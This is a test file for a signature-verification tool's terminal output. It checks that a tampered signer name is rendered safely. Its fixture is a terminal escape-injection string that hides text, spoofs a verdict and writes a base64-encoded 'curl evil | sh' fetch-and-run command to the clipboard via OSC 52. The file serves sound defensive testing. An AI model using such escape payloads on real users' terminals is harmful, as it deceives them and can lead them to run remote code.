import xtermHeadless from '@xterm/headless';
import { describe, expect, it } from 'vitest';
import type { DocumentVerification } from '../../../shared/contract/index';
import { personName } from '../../../shared/contract/runs';
import { describeVerification } from '../../../electron/host/entry/verification-lines';
import { terminalSafeLine } from '../../../electron/host/entry/terminal-safe-line';

/**
 * Issue 19, "clean text everywhere it leaves Handrail": a tampered file can carry any signer name,
 * so what `handrail verify` prints is checked as a person sees it, through a real terminal
 * emulator (xterm.js headless), not as a string.
 */
const hostileName =
  'Alice\u001b[2K\r\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[8m\u202eEVE ok signature 1: Bob';

function tampered(name: string): DocumentVerification {
  return {
    valid: false,
    format: 'bundle',
    runId: 'run-1',
    chain: { valid: true, problem: null, events: 3, headHash: 'abc', firstBadSeq: null },
    state: { valid: true, problem: null },
    document: { valid: true, problem: null },
    signatures: [
      {
        index: 1,
        kind: 'final',
        name,
        role: 'lead\u001b[8m',
        at: '2026-12-03T09:00:00Z',
        fingerprint: 'SHA256:x',
        valid: false,
        problem: 'the signature does not verify',
      },
    ],
  };
}

/** What a person sees after `lines` were printed to a 320-column terminal, and what it was asked to do. */
async function seen(lines: string[]): Promise<{ screen: string[]; osc52: number }> {
  const terminal = new xtermHeadless.Terminal({ cols: 320, rows: 20, allowProposedApi: true });
  let osc52 = 0;
  terminal.parser.registerOscHandler(52, () => {
    osc52 += 1;
    return true;
  });
  await new Promise<void>((resolve) => terminal.write(lines.join('\r\n') + '\r\n', resolve));
  const buffer = terminal.buffer.active;
  const screen: string[] = [];
  for (let row = 0; row < buffer.length; row += 1) {
    const line = buffer.getLine(row);
    // Cells drawn invisible (SGR 8) are not seen, whatever they hold.
    let text = '';
    for (let column = 0; line !== undefined && column < line.length; column += 1) {
      const cell = line.getCell(column);
      if (cell !== undefined) text += cell.isInvisible() ? ' ' : cell.getChars() || ' ';
    }
    screen.push(text.trimEnd());
  }
  terminal.dispose();
  return { screen: screen.filter((line) => line !== ''), osc52 };
}

describe('handrail verify output', () => {
  it('shows a hostile signer name with its controls visible: the FAIL line and the verdict stay', async () => {
    const { screen, osc52 } = await seen(
      describeVerification(tampered(hostileName)).lines.map(terminalSafeLine),
    );
    expect(osc52).toBe(0);
    const signatureLine = screen.find((line) => line.includes('signature 1:'));
    expect(signatureLine).toBe(
      'FAIL signature 1: Alice␛[2K␍␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛[8m<U+202E>EVE ok signature 1: Bob (lead␛[8m), final, 2026-12-03T09:00:00Z, key SHA256:x — the signature does not verify — key not checked (no --allowed-signers file)',
    );
    expect(screen.at(-1)).toBe('INVALID: see the lines marked FAIL');
  });

  it('printed raw, the same lines hide the FAIL, set the clipboard and hide the verdict (the check can fail)', async () => {
    const { screen, osc52 } = await seen(describeVerification(tampered(hostileName)).lines);
    expect(osc52).toBe(1);
    expect(screen.some((line) => line.startsWith('FAIL signature 1'))).toBe(false);
    expect(screen.some((line) => line.startsWith('INVALID'))).toBe(false);
  });

  it('refuses such a name when it is typed, with a message that says why', () => {
    for (const name of ['a\u001b[2Kb', 'a\u001b]52;c;eA==\u0007', 'a\u001b[8m', 'a\u202eb', 'a\u0085b']) {
      const result = personName.safeParse(name);
      expect(result.success, JSON.stringify(name)).toBe(false);
      expect(result.error?.issues[0]?.message).toMatch(/control characters|one line/);
    }
    expect(personName.safeParse('Zoë Ødegård-Nguyễn').success).toBe(true);
  });
});
